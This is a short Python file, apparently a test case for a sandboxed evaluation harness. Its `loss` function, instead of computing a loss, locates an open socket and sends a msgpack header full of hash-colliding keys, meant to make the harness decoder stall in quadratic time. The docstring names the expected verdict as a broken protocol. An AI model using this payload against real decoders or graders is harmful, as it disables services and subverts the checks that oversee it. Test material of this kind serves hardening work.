"""Sends a reply whose header holds a map with keys that all have the same hash.

Mechanism: -1 and -2 have the same hash, so have all tuples of them; a decoder that makes a dictionary of the map needs quadratic time, in C, where no deadline is looked at.
Must happen: a broken protocol, at once.
Aims at: the boundary
Verdicts: protocol_broken
"""

import os
import stat
import struct

import numpy as np


def channel():
    for descriptor in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise LookupError("no socket")


N = 18
COUNT = 60_000


def send_all(data):
    view = memoryview(data)
    while view:
        view = view[os.write(channel(), view) :]


def loss(w, X, y, reg):
    keys = b"".join(
        b"\xdc" + struct.pack(">H", N) + bytes(255 - (number >> bit & 1) for bit in range(N)) + b"\xc0"
        for number in range(COUNT)
    )
    header = b"\x83\xa4type\xa5Value\xa7changed\x80\xa5value" + b"\xdf" + struct.pack(">I", COUNT) + keys
    assert len(header) < 4 << 20
    send_all(struct.pack("<IQ", len(header), 0) + header)
    return 0.0, np.zeros_like(w)
